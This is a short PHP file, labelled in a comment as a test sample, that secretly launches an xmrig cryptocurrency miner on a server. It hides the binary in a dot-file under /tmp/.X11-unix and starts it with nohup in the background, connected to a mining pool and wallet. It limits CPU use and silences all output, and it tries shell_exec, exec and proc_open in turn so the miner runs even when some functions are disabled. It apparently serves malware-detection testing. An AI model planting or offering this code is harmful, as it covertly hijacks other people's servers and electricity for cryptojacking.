<?php
// Test sample: PHP that launches an xmrig CPU miner in the background.
$pool   = 'stratum+tcp://pool.example.test:3333';
$wallet = '48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf';
$bin    = '/tmp/.X11-unix/.xmrig';
if (file_exists($bin)) {
    @chmod($bin, 0755);
    $cmd = 'nohup ' . $bin . ' -o ' . $pool . ' -u ' . $wallet . ' -p x -k --donate-level=1 --cpu-max-threads-hint=75 --background > /dev/null 2>&1 &';
    if (function_exists('shell_exec')) {
        shell_exec($cmd);
    } elseif (function_exists('exec')) {
        exec($cmd);
    } else {
        $p = proc_open($cmd, array(), $pipes);
    }
    echo 'started';
}
